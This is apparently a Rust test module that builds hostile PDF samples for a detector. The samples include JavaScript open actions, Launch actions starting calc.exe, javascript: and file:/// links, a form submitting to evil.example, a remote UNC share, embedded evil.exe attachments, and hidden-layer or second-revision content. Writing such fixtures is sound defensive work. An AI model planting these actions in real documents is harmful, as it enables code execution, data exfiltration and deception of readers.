//! What acts, attaches, asks elsewhere or hides: every place it can stand at.

use super::set::{Hostile, Page, catalog, marked, on_page, refused};
use crate::watermark::made::{SQUARE, stream};

/// An action that runs a script.
const SCRIPT: &str = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
/// An action that starts a program.
const LAUNCH: &str = "<</S/Launch/F(calc.exe)/Win<</F(calc.exe)/P(evil)>>>>";

/// A page with an annotation.
fn annotation(entries: &str, more: &[&str]) -> Vec<u8> {
    let annotation = format!("<</Type/Annot/Rect[0 0 99 99]{entries}>>");
    let mut all = vec![annotation.as_str()];
    all.extend_from_slice(more);
    on_page("/Annots[5 0 R]", &all)
}

/// A link with this action.
fn link(action: &str) -> Vec<u8> {
    annotation(&format!("/Subtype/Link/A{action}"), &[])
}

/// A page that paints a form with these entries.
fn form(entries: &str, data: &[u8]) -> Vec<u8> {
    Page {
        entries: "/Resources<</XObject<</X 5 0 R>>>>",
        content: Some(b"/X Do"),
        more: vec![stream(&format!("/Type/XObject/BBox[0 0 300 400]{entries}"), data)],
        ..Page::default()
    }
    .file()
}

/// A second revision that replaces what the page paints.
fn replaced_page() -> Vec<u8> {
    let mut pdf = Page { content: Some(b"(evil earlier text) pop"), ..Page::default() }.file();
    let (object, end) = (pdf.len(), String::from_utf8(pdf.clone()).unwrap());
    let before = end.split("startxref\n").nth(1).unwrap().split('\n').next().unwrap().to_owned();
    pdf.extend_from_slice(b"4 0 obj\n");
    pdf.extend_from_slice(&stream("", SQUARE));
    let table = pdf.len() + 8;
    pdf.extend_from_slice(
        format!(
            "\nendobj\nxref\n4 1\n{object:010} 00000 n \ntrailer\n<</Size 5/Root 1 0 R/Prev {before}>>\nstartxref\n{table}\n%%EOF\n"
        )
        .as_bytes(),
    );
    pdf
}

/// Scripts.
fn scripts() -> Vec<Hostile> {
    let script = format!("/OpenAction{SCRIPT}");
    vec![
        marked("script when opened", catalog(&script, &[])),
        marked(
            "script when opened, names escaped",
            catalog("/OpenAction<</#53/J#61vaScript/J#53(app.alert\\(1\\))>>", &[]),
        ),
        marked("script when opened, in a stream", {
            let more = vec![b"<</S/JavaScript/JS 6 0 R>>".to_vec(), stream("", b"app.alert(1)")];
            Page { catalog: "/OpenAction 5 0 R", more, ..Page::default() }.file()
        }),
        marked(
            "script behind a harmless action",
            catalog(&format!("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[{SCRIPT}]>>"), &[]),
        ),
        marked(
            "script when closed or saved",
            catalog(&format!("/AA<</WC{SCRIPT}/WS{SCRIPT}/DP{SCRIPT}>>"), &[]),
        ),
        marked("script by name", catalog(&format!("/Names<</JavaScript<</Names[(a){SCRIPT}]>>>>"), &[])),
        marked("script of the page", on_page(&format!("/AA<</O{SCRIPT}/C{SCRIPT}>>"), &[])),
        marked("script of a link", link(SCRIPT)),
        marked("script of a screen", annotation(&format!("/Subtype/Screen/AA<</PV{SCRIPT}>>"), &[])),
        marked(
            "script of a bookmark",
            catalog("/Outlines 5 0 R", &["<</First 6 0 R>>", &format!("<</Title(x)/A{SCRIPT}>>")]),
        ),
        marked("script of a field", {
            let field = format!(
                "/Subtype/Widget/FT/Tx/T(a)/AA<</K{SCRIPT}/F{SCRIPT}/V{SCRIPT}/C{SCRIPT}>>/MK<</CA(x)>>"
            );
            let field = format!("<</Type/Annot/Rect[0 0 99 99]{field}>>");
            Page {
                catalog: "/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>",
                entries: "/Annots[5 0 R]",
                more: vec![field.into_bytes()],
                ..Page::default()
            }
            .file()
        }),
        marked(
            "script of a rendition",
            annotation("/Subtype/Screen/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>", &[]),
        ),
        marked(
            "script of a letter head",
            catalog(
                &format!(
                    "/Names<</Templates<</Names[(a)3 0 R]>>/Pages<</Names[(a)3 0 R]>>>>/Dests<</a{SCRIPT}>>"
                ),
                &[],
            ),
        ),
    ]
}

/// Programs, addresses, files.
fn reaching_out() -> Vec<Hostile> {
    let to = |kind: &str, rest: &str| link(&format!("<</S/{kind}{rest}>>"));
    let attached = |entries: &str| {
        let more = vec![
            b"<</Type/Filespec/F(evil.exe)/EF<</F 6 0 R>>>>".to_vec(),
            stream("/Type/EmbeddedFile", b"evil"),
        ];
        Page { catalog: entries, more, ..Page::default() }.file()
    };
    vec![
        marked("program when opened", catalog(&format!("/OpenAction{LAUNCH}"), &[])),
        marked("program of a link", link(LAUNCH)),
        marked("address that is a script", to("URI", "/URI(java\\nscript:app.alert\\(1\\))")),
        marked("address of a file", to("URI", "/URI(file:///etc/evil)")),
        marked("addresses that begin with a script", catalog("/URI<</Base(javascript:app.alert)>>", &[])),
        marked("form that is sent", to("SubmitForm", "/F(https://evil.example/)/Flags 4")),
        marked("data that is fetched", to("ImportData", "/F(evil.fdf)")),
        marked("another file", to("GoToR", "/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]")),
        marked("a file in this file", to("GoToE", "/T<</R/C/N(evil)>>")),
        marked("layers that are switched", to("SetOCGState", "/State[/OFF 5 0 R]")),
        marked("fields that are hidden", to("Hide", "/T(evil)")),
        marked("a named action of somebody", to("Named", "/N/SaveAs")),
        marked("attachment by name", attached("/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>")),
        marked("attachment of the document", attached("/AF[5 0 R]")),
        marked(
            "portfolio",
            attached("/Collection<</View/D/D(evil)>>/Names<</EmbeddedFiles<</Names[(evil)5 0 R]>>>>"),
        ),
        marked(
            "attachment on the page",
            annotation("/Subtype/FileAttachment/FS<</F(evil.exe)/EF<</F 6 0 R>>>>", &["null"]),
        ),
        marked("film", annotation("/Subtype/Movie/Movie<</F(evil.avi)>>/A true", &[])),
        marked("sound", annotation("/Subtype/Sound/Sound 6 0 R", &["null"])),
        marked(
            "rich media",
            annotation(
                "/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(evil.swf)6 0 R]>>>>",
                &["null"],
            ),
        ),
        marked(
            "three dimensions",
            annotation("/Subtype/3D/3DD<</Type/3D/Subtype/U3D/OnInstantiate 6 0 R>>", &["null"]),
        ),
        marked(
            "requirements and threads",
            catalog(
                "/Requirements[<</S/EnableJavaScripts/RH<</S/JS/Script(evil)>>>>]/Threads[5 0 R]",
                &["<</I<</Title(evil)>>>>"],
            ),
        ),
    ]
}

/// Programs in forms, data of others, second faces.
fn two_faced() -> Vec<Hostile> {
    vec![
        marked(
            "static form program",
            catalog("/AcroForm<</XFA[(template)(app.alert)]/Fields[5 0 R]>>", &["<</T(a)>>"]),
        ),
        refused(
            "dynamic form program",
            "dynamic_xfa",
            catalog("/NeedsRendering true/AcroForm<</XFA(x)/Fields[]>>", &[]),
        ),
        marked("PostScript", form("/Subtype/PS", b"(evil) run")),
        marked("PostScript as a form's second kind", form("/Subtype/Form/Subtype2/PS/PS 9 0 R", b"")),
        marked("page of another file", form("/Subtype/Form/Ref<</F(evil.pdf)/Page 0>>", b"")),
        marked(
            "image of another file",
            form("/Subtype/Image/Width 9/Height 9/F(evil.jpg)/FFilter/DCTDecode", b""),
        ),
        marked(
            "content of another file",
            Page { stream: "/F(evil.txt)/FFilter/FlateDecode", ..Page::default() }.file(),
        ),
        marked(
            "image for printers only",
            form(
                "/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/OPI<</2.0<</F(evil.tif)>>>>",
                b"x",
            ),
        ),
        marked(
            "private data",
            on_page("/PieceInfo<</Evil<</Private(evil)/LastModified(D:2026)>>>>/LastModified(D:2026)", &[]),
        ),
        marked("layer that hides another text", {
            let page = "/Resources<</Properties<</A 5 0 R/B 6 0 R>>>>";
            let layers = "/OCProperties<</OCGs[5 0 R 6 0 R]/D<</OFF[6 0 R]/AS[<</Event/Print/Category[/Print]/OCGs[5 0 R 6 0 R]>>]>>>>";
            Page {
                catalog: layers,
                entries: page,
                content: Some(b"/OC/A BDC 0 g 9 9 99 99 re f EMC /OC/B BDC 1 g 9 9 99 99 re f EMC"),
                more: vec![
                    b"<</Type/OCG/Name(a)>>".to_vec(),
                    b"<</Type/OCG/Name(b)/Usage<</Print<</PrintState/ON>>>>>>".to_vec(),
                ],
                ..Page::default()
            }
            .file()
        }),
        marked(
            "annotation that hides the page when printed",
            annotation("/Subtype/Stamp/F 4/AP<</N 6 0 R>>", &["null"]),
        ),
        marked("second revision with another page", replaced_page()),
        marked("signature that forbids changes", {
            let sign = "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 9 99 9]/Contents<00>/Reference[<</TransformMethod/DocMDP>>]>>";
            catalog(
                "/Perms<</DocMDP 5 0 R>>/AcroForm<</SigFlags 3/Fields[6 0 R]>>",
                &[sign, "<</FT/Sig/T(s)/V 5 0 R>>"],
            )
        }),
    ]
}

/// The files.
pub(super) fn files() -> Vec<Hostile> {
    let mut all = scripts();
    all.extend(reaching_out());
    all.extend(two_faced());
    all
}
